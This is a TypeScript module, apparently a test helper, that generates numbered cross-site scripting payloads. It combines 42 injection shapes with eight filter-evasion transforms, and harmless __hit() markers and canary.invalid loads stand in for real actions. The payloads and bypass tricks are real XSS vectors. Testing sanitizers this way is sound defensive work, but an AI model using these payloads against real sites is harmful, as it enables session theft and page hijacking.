/** Script injections. `MARK` becomes the number of the text. */
const shapes: readonly string[] = [
  '<script>RUN</script>',
  '<script src=//canary.invalid/MARK></script>',
  '<img src=x onerror=RUN>',
  '<img src=//canary.invalid/MARK>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src=javascript:RUN></iframe>',
  '<object data=//canary.invalid/MARK></object>',
  '<embed src=//canary.invalid/MARK>',
  '<link rel=stylesheet href=//canary.invalid/MARK>',
  '<style>@import "//canary.invalid/MARK";</style>',
  '<base href=//canary.invalid/>',
  '<meta http-equiv=refresh content="0;url=//canary.invalid/MARK">',
  '<form action=//canary.invalid/MARK><button autofocus onfocus=RUN>x',
  '<a href="javascript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<details open ontoggle=RUN>',
  '<video autoplay src=x onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<input autofocus onfocus=RUN>',
  '<math><mi//xlink:href="data:x,<script>RUN</script>">',
  '<p style="background:url(//canary.invalid/MARK)">x</p>',
  '<b onmouseover=RUN onanimationstart=RUN style="animation:x 1s">x</b>',
  '"><img src=x onerror=RUN>',
  "'><svg/onload=RUN>",
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</script><script>RUN</script>',
  '--><script>RUN</script>',
  ']]><script>RUN</script>',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<template><script>RUN</script></template>',
  '<!--<img src="--><img src=x onerror=RUN//">',
  '<x contenteditable onblur=RUN autofocus>x',
  '<img src="x` `<script>RUN</script>"` `>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<p><style><!--</style><img src=x onerror=RUN>--></style>',
  '\u0000<script>RUN</script>',
]

/** Ways around filters. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' on', '/on'),
  (text) => text.replaceAll('script', 'scr\u0131pt'),
  (text) => text.replaceAll('=', '\n='),
  (text) => text.replaceAll('javascript:', 'jav&#x09;ascript:'),
]

/** Different texts, each with its number. */
export function hostileTexts(count: number): string[] {
  const texts = disguises.flatMap((disguise) => shapes.map((shape) => disguise(shape)))
  return [...new Set(texts)]
    .slice(0, count)
    .map((text, number) => text.replaceAll('RUN', `__hit(${number})`).replaceAll('MARK', String(number)))
}
